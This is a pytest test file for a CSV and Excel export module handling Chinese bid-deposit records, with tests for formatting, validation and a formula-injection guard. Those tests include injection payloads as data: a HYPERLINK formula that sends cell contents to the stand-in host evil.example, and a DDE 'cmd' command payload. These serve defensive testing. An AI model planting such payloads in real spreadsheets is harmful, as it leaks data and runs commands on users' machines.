"""Auditors' exports: CSV bytes (BOM, CRLF, formula-injection guard) and .xlsx read back with openpyxl."""

from __future__ import annotations

import csv
import gc
import io
import tempfile
import zipfile
from collections.abc import Iterator, Mapping
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from storage.tables import Column, Sheet, TableError, csv_bytes, xlsx_bytes

COLUMNS = [
    Column("bidder", "投标人"),
    Column("amount", "保证金（元）", "fen"),
    Column("arrived", "到账日", "date"),
    Column("at", "到账时间", "datetime"),
    Column("count", "笔数", "int"),
]
ROW = {
    "bidder": "中建三局集团有限公司",
    "amount": 80_000_000,
    "arrived": date(2026, 9, 24),
    "at": datetime(2026, 9, 23, 16, 30, 5, tzinfo=UTC),  # 00:30:05 on 24 Sep in Shanghai
    "count": 2,
}


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes, name: str) -> Worksheet:
    return openpyxl.load_workbook(io.BytesIO(data))[name]


def values(ws: Worksheet) -> list[list[object]]:
    return [[cell.value for cell in row] for row in ws.iter_rows()]


# ---------------------------------------------------------------- CSV


def test_csv_starts_with_a_bom_and_ends_lines_with_crlf() -> None:
    data = csv_bytes([Column("a", "A")], [{"a": "x"}, {"a": "y"}])
    assert data == b"\xef\xbb\xbfA\r\nx\r\ny\r\n"


def test_csv_renders_each_kind() -> None:
    assert read_csv(csv_bytes(COLUMNS, [ROW])) == [
        ["投标人", "保证金（元）", "到账日", "到账时间 (UTC+8)", "笔数"],
        ["中建三局集团有限公司", "800000.00", "2026-09-24", "2026-09-24 00:30:05", "2"],
    ]


def test_csv_chinese_text_round_trips_through_utf8() -> None:
    text = "广州市公共资源交易中心·第三标段「监理」（含税）"
    data = csv_bytes([Column("t", "项目名称")], [{"t": text}])
    assert text.encode("utf-8") in data
    assert read_csv(data)[1] == [text]


@pytest.mark.parametrize(
    ("fen", "shown"),
    [
        (0, "0.00"),
        (1, "0.01"),
        (-1, "-0.01"),
        (123_456, "1234.56"),
        (-123_450, "-1234.50"),
        (10**18, "10000000000000000.00"),
    ],
)
def test_csv_money_is_yuan_with_two_decimals(fen: int, shown: str) -> None:
    assert read_csv(csv_bytes([Column("m", "M", "fen")], [{"m": fen}]))[1] == [shown]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"点我")', '\'=HYPERLINK("http://evil.example/?"&A1,"点我")'),
        ("=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\0=1", "'\0=1"),
        ("a=1+1", "a=1+1"),  # only the first character matters
        (" =1+1", " =1+1"),
        ("'already quoted", "'already quoted"),
        ("", ""),
    ],
)
def test_csv_text_that_a_spreadsheet_would_evaluate_gets_a_leading_quote(text: str, written: str) -> None:
    assert read_csv(csv_bytes([Column("t", "T")], [{"t": text}]))[1] == [written]


def test_csv_negative_numbers_are_not_quoted_as_formulas() -> None:
    columns = [Column("m", "M", "fen"), Column("n", "N", "int")]
    assert read_csv(csv_bytes(columns, [{"m": -500, "n": -3}]))[1] == ["-5.00", "-3"]


def test_csv_header_titles_are_guarded_too() -> None:
    assert read_csv(csv_bytes([Column("t", "=title")], []))[0] == ["'=title"]


def test_csv_quotes_fields_with_commas_quotes_and_line_breaks() -> None:
    data = csv_bytes([Column("t", "T")], [{"t": 'a,"b"\nc'}])
    assert data == b'\xef\xbb\xbfT\r\n"a,""b""\nc"\r\n'
    assert read_csv(data)[1] == ['a,"b"\nc']


def test_csv_with_no_rows_is_the_header_alone() -> None:
    assert csv_bytes(COLUMNS, []) == "\ufeff投标人,保证金（元）,到账日,到账时间 (UTC+8),笔数\r\n".encode()


def test_csv_none_is_an_empty_cell_in_every_kind() -> None:
    row = dict.fromkeys(ROW)
    assert read_csv(csv_bytes(COLUMNS, [row]))[1] == ["", "", "", "", ""]


def test_csv_instant_with_a_fraction_of_a_second_keeps_it() -> None:
    at = datetime(2026, 9, 30, 1, 59, 59, 999_000, tzinfo=UTC)
    assert read_csv(csv_bytes([Column("t", "T", "datetime")], [{"t": at}]))[1] == [
        "2026-09-30 09:59:59.999000"
    ]


def test_csv_instant_in_another_zone_is_shown_in_shanghai_time() -> None:
    at = datetime(2026, 9, 30, 10, 0, tzinfo=timezone(timedelta(hours=-5)))
    assert read_csv(csv_bytes([Column("t", "T", "datetime")], [{"t": at}]))[1] == ["2026-09-30 23:00:00"]


def test_csv_datetime_title_already_naming_the_offset_is_left_alone() -> None:
    assert read_csv(csv_bytes([Column("t", "时间（UTC+8）", "datetime")], []))[0] == ["时间（UTC+8）"]


def test_csv_text_column_takes_str_of_other_values() -> None:
    assert read_csv(csv_bytes([Column("t", "T")], [{"t": 42}]))[1] == ["42"]


def test_csv_extra_row_keys_are_ignored() -> None:
    assert read_csv(csv_bytes([Column("a", "A")], [{"a": "x", "b": "y"}]))[1] == ["x"]


def test_csv_reads_a_generator_of_rows() -> None:
    def rows() -> Iterator[Mapping[str, object]]:
        for i in range(3):
            yield {"n": i}

    assert read_csv(csv_bytes([Column("n", "N", "int")], rows()))[1:] == [["0"], ["1"], ["2"]]


# ---------------------------------------------------------------- wrong values


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        (Column("m", "金额", "fen"), 12.5, "expected integer fen, got float"),
        (Column("m", "金额", "fen"), "100", "expected integer fen, got str"),
        (Column("m", "金额", "fen"), True, "expected integer fen, got bool"),
        (Column("n", "N", "int"), 1.0, "expected an integer, got float"),
        (Column("d", "D", "date"), datetime(2026, 9, 30, tzinfo=UTC), "expected a date"),
        (Column("d", "D", "date"), "2026-09-30", "expected a date"),
        (Column("t", "T", "datetime"), datetime(2026, 9, 30, 12, 0), "expected an aware datetime"),
        (Column("t", "T", "datetime"), date(2026, 9, 30), "expected an aware datetime"),
        (Column("x", "X"), b"bytes", "expected text"),
        (Column("x", "X"), date(2026, 9, 30), "expected text"),
    ],
)
def test_a_value_of_the_wrong_kind_is_refused_naming_row_and_column(
    column: Column, value: object, message: str
) -> None:
    rows: list[Mapping[str, object]] = [{column.key: None}, {column.key: value}]
    with pytest.raises(TableError, match=f"CSV, data row 2, column '{column.key}' .*{message}"):
        csv_bytes([column], rows)
    with pytest.raises(TableError, match=f"Sheet 'S', data row 2, column '{column.key}' .*{message}"):
        xlsx_bytes([Sheet("S", [column], rows)])


def test_a_row_without_a_columns_key_is_refused() -> None:
    with pytest.raises(TableError, match=r"data row 1: no value for column 'amount' \(保证金（元）\)"):
        csv_bytes(COLUMNS, [{k: v for k, v in ROW.items() if k != "amount"}])


def test_an_unknown_column_kind_is_refused() -> None:
    with pytest.raises(TableError, match="unknown kind 'money'"):
        Column("m", "M", "money")  # type: ignore[arg-type]


def test_a_table_without_columns_is_refused() -> None:
    with pytest.raises(TableError, match="at least one column"):
        csv_bytes([], [])
    with pytest.raises(TableError, match="at least one column"):
        Sheet("S", [], [])


# ---------------------------------------------------------------- XLSX


def test_xlsx_is_a_real_workbook_with_the_sheets_in_order() -> None:
    data = xlsx_bytes([Sheet("保证金", COLUMNS, [ROW]), Sheet("退还", [Column("a", "A")], [])])
    assert zipfile.ZipFile(io.BytesIO(data)).testzip() is None
    assert openpyxl.load_workbook(io.BytesIO(data)).sheetnames == ["保证金", "退还"]


def test_xlsx_values_come_back_typed() -> None:
    ws = read_xlsx(xlsx_bytes([Sheet("保证金", COLUMNS, [ROW])]), "保证金")
    assert values(ws) == [
        ["投标人", "保证金（元）", "到账日", "到账时间 (UTC+8)", "笔数"],
        ["中建三局集团有限公司", 800000, datetime(2026, 9, 24), datetime(2026, 9, 24, 0, 30, 5), 2],
    ]


def test_xlsx_money_is_yuan_formatted_with_thousands_and_two_decimals() -> None:
    ws = read_xlsx(xlsx_bytes([Sheet("S", [Column("m", "M", "fen")], [{"m": 12_345_678}, {"m": -5}])]), "S")
    assert [(c.value, c.data_type, c.number_format) for (c,) in ws.iter_rows(min_row=2)] == [
        (123456.78, "n", "#,##0.00"),
        (-0.05, "n", "#,##0.00"),
    ]


def test_xlsx_dates_and_instants_are_real_dates_with_their_formats() -> None:
    columns = [Column("d", "D", "date"), Column("t", "T", "datetime")]
    rows: list[Mapping[str, object]] = [
        {"d": date(2026, 9, 30), "t": datetime(2026, 9, 30, 16, 0, tzinfo=UTC)},  # 00:00 on 1 Oct in Shanghai
        {"d": None, "t": datetime(2026, 9, 30, 1, 59, 59, 250_000, tzinfo=UTC)},
    ]
    ws = read_xlsx(xlsx_bytes([Sheet("S", columns, rows)]), "S")
    (d, t), (_, t_ms) = ws.iter_rows(min_row=2)
    assert (d.is_date, d.value, d.number_format) == (True, datetime(2026, 9, 30), "yyyy-mm-dd")
    assert (t.is_date, t.value, t.number_format) == (True, datetime(2026, 10, 1), "yyyy-mm-dd hh:mm:ss")
    assert (t_ms.value, t_ms.number_format) == (
        datetime(2026, 9, 30, 9, 59, 59, 250_000),
        "yyyy-mm-dd hh:mm:ss.000",
    )
    assert t.value.tzinfo is None


def test_xlsx_datetime_header_says_utc_plus_8() -> None:
    ws = read_xlsx(xlsx_bytes([Sheet("S", [Column("t", "开标时间", "datetime")], [])]), "S")
    assert values(ws) == [["开标时间 (UTC+8)"]]


def test_xlsx_integers_are_formatted_as_whole_numbers() -> None:
    ws = read_xlsx(xlsx_bytes([Sheet("S", [Column("n", "N", "int")], [{"n": 123_456_789_012}])]), "S")
    cell = ws["A2"]
    assert (cell.value, cell.number_format) == (123_456_789_012, "0")


def test_xlsx_header_row_is_bold_and_frozen() -> None:
    ws = read_xlsx(xlsx_bytes([Sheet("S", COLUMNS, [ROW])]), "S")
    assert ws.freeze_panes == "A2"
    assert all(cell.font.bold for cell in ws[1])
    assert not any(cell.font.bold for cell in ws[2])


def test_xlsx_column_widths_fit_titles_and_the_first_rows() -> None:
    columns = [*COLUMNS, Column("fixed", "F", width=30)]
    long_name = "某某市某某区某某街道某某社区建设工程有限责任公司"  # 24 wide characters = 48 columns
    rows = [{**ROW, "fixed": "x"}, {**ROW, "bidder": long_name, "fixed": "x"}]
    ws = read_xlsx(xlsx_bytes([Sheet("S", columns, rows)]), "S")
    widths = {letter: ws.column_dimensions[letter].width for letter in "ABCDEF"}
    assert widths == {
        "A": 50.0,  # the long name, 48 + 2
        "B": 16.0,  # 800,000.00 is 10; the title 保证金（元） is 12 wide; the fen minimum 14, + 2
        "C": 12.0,  # 2026-09-24 is 10, + 2
        "D": 21.0,  # 2026-09-24 00:30:05 is 19, + 2 (the title 到账时间 (UTC+8) is 16)
        "E": 8.0,  # the floor
        "F": 30.0,  # the column's own width
    }


def test_xlsx_column_width_is_capped() -> None:
    ws = read_xlsx(xlsx_bytes([Sheet("S", [Column("t", "T")], [{"t": "x" * 500}])]), "S")
    assert ws.column_dimensions["A"].width == 60.0


@pytest.mark.parametrize(
    "text", ["=1+1", '=HYPERLINK("http://evil.example","x")', "@SUM(A1)", "-1", "+1", "#N/A", "#DIV/0!"]
)
def test_xlsx_text_that_looks_like_a_formula_or_error_stays_exactly_that_text(text: str) -> None:
    data = xlsx_bytes([Sheet("S", [Column("t", "T")], [{"t": text}])])
    cell = read_xlsx(data, "S")["A2"]
    assert (cell.value, cell.data_type) == (text, "s")
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_xlsx_chinese_text_round_trips() -> None:
    text = "广州市公共资源交易中心·第三标段「监理」（含税）\n第二行"
    ws = read_xlsx(xlsx_bytes([Sheet("项目", [Column("t", "项目名称")], [{"t": text}])]), "项目")
    assert values(ws) == [["项目名称"], [text]]


def test_xlsx_control_characters_xml_cannot_carry_become_replacement_characters() -> None:
    ws = read_xlsx(xlsx_bytes([Sheet("S", [Column("t", "T")], [{"t": "a\x00b\x1fc\td"}])]), "S")
    assert ws["A2"].value == "a\ufffdb\ufffdc\td"


def test_xlsx_text_longer_than_an_excel_cell_is_refused_not_cut() -> None:
    with pytest.raises(TableError, match="data row 1, column 't': 32768 characters"):
        xlsx_bytes([Sheet("S", [Column("t", "T")], [{"t": "x" * 32_768}])])


def test_xlsx_with_no_rows_has_the_header_alone() -> None:
    ws = read_xlsx(xlsx_bytes([Sheet("S", COLUMNS, [])]), "S")
    assert values(ws) == [["投标人", "保证金（元）", "到账日", "到账时间 (UTC+8)", "笔数"]]
    assert ws.freeze_panes == "A2"


def test_xlsx_none_is_an_empty_cell_and_keeps_its_row() -> None:
    ws = read_xlsx(xlsx_bytes([Sheet("S", COLUMNS, [dict.fromkeys(ROW), ROW])]), "S")
    assert values(ws)[1:] == [
        [None, None, None, None, None],
        ["中建三局集团有限公司", 800000, datetime(2026, 9, 24), datetime(2026, 9, 24, 0, 30, 5), 2],
    ]


def test_xlsx_streams_a_generator_longer_than_the_width_sample() -> None:
    def rows() -> Iterator[Mapping[str, object]]:
        for i in range(250):
            yield {"n": i, "m": i * 100}

    ws = read_xlsx(xlsx_bytes([Sheet("S", [Column("n", "N", "int"), Column("m", "M", "fen")], rows())]), "S")
    got = values(ws)
    assert len(got) == 251
    assert got[1] == [0, 0] and got[250] == [249, 249]


def test_xlsx_without_sheets_is_refused() -> None:
    with pytest.raises(TableError, match="at least one sheet"):
        xlsx_bytes([])


def test_xlsx_sheet_names_differing_only_in_case_are_refused() -> None:
    with pytest.raises(TableError, match="Two sheets are named 'deposits'"):
        xlsx_bytes([Sheet("Deposits", [Column("a", "A")], []), Sheet("deposits", [Column("a", "A")], [])])


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("", "1 to 31 characters"),
        ("x" * 32, "1 to 31 characters"),
        ("a/b", r"may not contain"),
        ("a[1]", r"may not contain"),
        ("'quoted'", "apostrophe"),
        ("History", "reserved"),
    ],
)
def test_sheet_names_excel_refuses_are_refused(name: str, message: str) -> None:
    with pytest.raises(TableError, match=message):
        Sheet(name, [Column("a", "A")], [])


def test_a_31_character_chinese_sheet_name_is_accepted() -> None:
    name = "保" * 31
    assert openpyxl.load_workbook(
        io.BytesIO(xlsx_bytes([Sheet(name, [Column("a", "A")], [])]))
    ).sheetnames == [name]


def test_a_bad_column_width_is_refused() -> None:
    with pytest.raises(TableError, match="width 0"):
        Column("a", "A", width=0)


def test_a_refused_workbook_leaves_no_temporary_file_behind() -> None:
    before = set(Path(tempfile.gettempdir()).glob("openpyxl.*"))
    with pytest.raises(TableError, match="data row 2"):
        xlsx_bytes([Sheet("S", [Column("m", "M", "fen")], [{"m": 1}, {"m": 1.5}])])
    gc.collect()  # a half-written sheet left open would complain here, as an unraisable exception
    assert set(Path(tempfile.gettempdir()).glob("openpyxl.*")) <= before
